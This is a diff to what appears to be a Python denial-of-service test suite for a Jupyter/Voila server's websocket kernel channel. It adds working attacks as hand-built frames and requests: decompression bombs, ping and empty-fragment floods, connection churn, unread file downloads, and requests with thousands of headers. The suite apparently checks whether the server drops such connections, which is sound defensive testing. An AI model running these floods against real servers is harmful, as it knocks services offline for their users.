@@ -199,54 +199,96 @@ async def ask_and_hang_up(attacker, count=350):
 
 async def inflate(attacker, count=20, size=60 * MB):
     """Send small frames that are long once they are unpacked."""
-    return await _send_packed(attacker, bytes(size), count)
+    return await _send_on(attacker, count * _packed(bytes(size)), lines=1)
 
 
-async def send_long_texts(attacker, lines=7, count=40, size=MB // 2):
-    """Send texts that take long to read, on as many lines as a page may have."""
+def long_text(size):
+    """A message that goes nowhere, with a text that takes as long to read as any of its size."""
     parts = read_frame(message("nothing"), most=6)
-    values = b"[]," * 48_000  # as many as are read at all
+    values = b"[]," * (min(size, 192_000) // 4)  # as many as are read at all
     parts[4] = b'{"a":[' + values + b'"' + b"a" * (size - len(values) - 20) + b'"]}'
-    frame = write_frame(parts)
-    return all(await asyncio.gather(*(_send_packed(attacker, frame, count) for _ in range(lines))))
+    return write_frame(parts)
 
 
-async def _send_packed(attacker, content, count):
-    """Send the same message again and again, packed only once; whether the line was ended."""
+async def send_long_texts(attacker):
+    """Send texts that take long to read, on as many lines as a page may have."""
+    return await _send_on(attacker, _packed(long_text(MB // 2)))
+
+
+async def send_short_texts(attacker):
+    """Send frames of a hundred bytes each that inflate to a text of sixty thousand."""
+    return await _send_on(attacker, 100 * _packed(long_text(60_000)))
+
+
+async def send_pings(attacker):
+    """Send empty pings, six bytes each."""
+    return await _send_on(attacker, 10_000 * _frame(9))
+
+
+async def send_fragments(attacker):
+    """Send one message in pieces of nothing."""
+    return await _send_on(attacker, 10_000 * _frame(0, is_last=False), _frame(2, is_last=False))
+
+
+def _packed(content):
+    """The frame of ``content``, compressed."""
     packer = zlib.compressobj(9, wbits=-15)
     packed = packer.compress(content) + packer.flush(zlib.Z_SYNC_FLUSH)
-    payload = packed.removesuffix(b"\0\0\xff\xff")
-    # A final binary frame, compressed, masked with zeros.
-    frame = bytes([0x80 | 0x40 | 2, 0x80 | 127]) + len(payload).to_bytes(8, "big") + bytes(4)
-    reader, writer = await _raw_line(attacker)
-    with suppress(*STOPPED):
-        for _ in range(count):
-            writer.write(frame + payload)
-            await asyncio.wait_for(writer.drain(), PATIENCE)
-    is_ended = await _is_closed(reader, 1)
-    writer.close()
-    return is_ended
+    return _frame(0x40 | 2, packed.removesuffix(b"\0\0\xff\xff"))
 
 
-async def _raw_line(attacker):
+def _frame(kind, payload=b"", is_last=True):
+    """A websocket's frame, masked with zeros."""
+    head = bytes([0x80 * is_last | kind, 0x80 | 127]) + len(payload).to_bytes(8, "big")
+    if len(payload) < 126:  # a control frame has no longer length
+        head = bytes([0x80 * is_last | kind, 0x80 | len(payload)])
+    return head + bytes(4) + payload
+
+
+async def _send_on(attacker, frames, first=b"", lines=7, seconds=3.0):
+    """Send the same frames again and again on so many lines; whether all were ended."""
+
+    async def send():
+        reader, writer = await _raw_line(attacker)
+        writer.write(first)
+        with suppress(*STOPPED):
+            async with asyncio.timeout(seconds):
+                while True:
+                    writer.write(frames)
+                    await writer.drain()
+        is_ended = await _is_closed(reader, 1)
+        writer.close()
+        return is_ended
+
+    return all(await asyncio.gather(*(send() for _ in range(lines))))
+
+
+async def _raw_line(attacker, extensions="permessage-deflate; client_no_context_takeover"):
     """A websocket by hand, whose frames may be anything."""
-    where = urlsplit(attacker.url)
-    reader, writer = await asyncio.open_connection(where.hostname, where.port)
     headers = {
-        "Host": where.netloc,
         "Upgrade": "websocket",
         "Connection": "Upgrade",
         "Sec-WebSocket-Version": "13",
         "Sec-WebSocket-Key": base64.b64encode(bytes(16)).decode(),
         "Sec-WebSocket-Protocol": V1,
-        "Sec-WebSocket-Extensions": "permessage-deflate; client_no_context_takeover",
+        "Sec-WebSocket-Extensions": extensions,
     }
-    path = f"{where.path}api/kernels/{attacker.kernel}/channels?session_id={uuid4().hex}"
-    lines = [f"GET {path} HTTP/1.1", *(f"{name}: {text}" for name, text in headers.items())]
-    writer.write("\r\n".join([*lines, "", ""]).encode())
+    path = f"api/kernels/{attacker.kernel}/channels?session_id={uuid4().hex}"
+    reader, writer = await _request(attacker, "GET", path, **headers)
     answer = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), PATIENCE)
     if b" 101 " not in answer.splitlines()[0]:
+        writer.close()
         raise ConnectionError(answer.decode("latin1"))
+    return reader, writer
+
+
+async def _request(attacker, method, path, **headers):
+    """A connection on which the head of a request was sent."""
+    where = urlsplit(attacker.url)
+    reader, writer = await asyncio.open_connection(where.hostname, where.port)
+    lines = [f"{method} {where.path}{path} HTTP/1.1", f"Host: {where.netloc}"]
+    lines += [f"{name}: {text}" for name, text in headers.items()]
+    writer.write("\r\n".join([*lines, "", ""]).encode())
     return reader, writer
 
 
@@ -268,10 +310,7 @@ async def send_bodies(attacker, path="nowhere", count=4, size=60 * MB):
 
 async def _send_body(attacker, path, size):
     """Whether it was refused before it had come whole."""
-    where = urlsplit(attacker.url)
-    reader, writer = await asyncio.open_connection(where.hostname, where.port)
-    head = f"POST {where.path}{path} HTTP/1.1\r\nHost: {where.netloc}\r\nContent-Length: {size}\r\n"
-    writer.write(head.encode() + b"\r\n")
+    reader, writer = await _request(attacker, "POST", path, **{"Content-Length": size})
     sent = 0
     with suppress(*STOPPED):
         while sent < size:
@@ -294,11 +333,55 @@ async def pile_up(attacker, count=1200, size=MB // 4, seconds=2.0):
     return
 
 
+async def come_and_go(attacker, lines=6, seconds=3.0):
+    """Open a line and hang up, again and again; now and then with words that nobody understands."""
+
+    async def come():
+        async with asyncio.timeout(seconds):
+            while True:
+                with suppress(*STOPPED):
+                    _, writer = await _raw_line(attacker)
+                    writer.close()
+                with suppress(ConnectionError):
+                    await _raw_line(attacker, "permessage-deflate; server_max_window_bits=many")
+
+    await asyncio.gather(*(come() for _ in range(lines)), return_exceptions=True)
+
+
+async def leave_files_unread(attacker, path="voila/static/plotly.min.js", lines=100, seconds=3.0):
+    """Ask for the largest file on many connections, and read nothing."""
+    asked = await asyncio.gather(*(_request(attacker, "GET", path) for _ in range(lines)))
+    await asyncio.sleep(seconds)
+    for _, writer in asked:
+        writer.close()
+
+
+async def send_headers(attacker, lines=2, seconds=3.0):
+    """Send requests with thousands of headers; whether none was read whole."""
+    many = {f"a{number}": "b" for number in range(3_000)}
+    end, were_refused = time.monotonic() + seconds, True
+    while time.monotonic() < end:
+        asked = await asyncio.gather(
+            *(_request(attacker, "GET", "nowhere", **many) for _ in range(lines))
+        )
+        for reader, writer in asked:
+            with suppress(*STOPPED):
+                were_refused &= not await asyncio.wait_for(reader.read(), PATIENCE)
+            writer.close()
+    return were_refused
+
+
 ATTACKS = {
     "answers that are never read": read_nothing,
     "answers for a line that is closed": ask_and_hang_up,
     "frames that inflate": inflate,
     "texts that take long to read": send_long_texts,
+    "small frames that inflate": send_short_texts,
+    "pings without end": send_pings,
+    "a message in pieces of nothing": send_fragments,
+    "lines that come and go": come_and_go,
+    "files that are never read": leave_files_unread,
+    "thousands of headers": send_headers,
     "bodies that nobody wants": send_bodies,
     "pieces for a busy kernel": pile_up,
 }
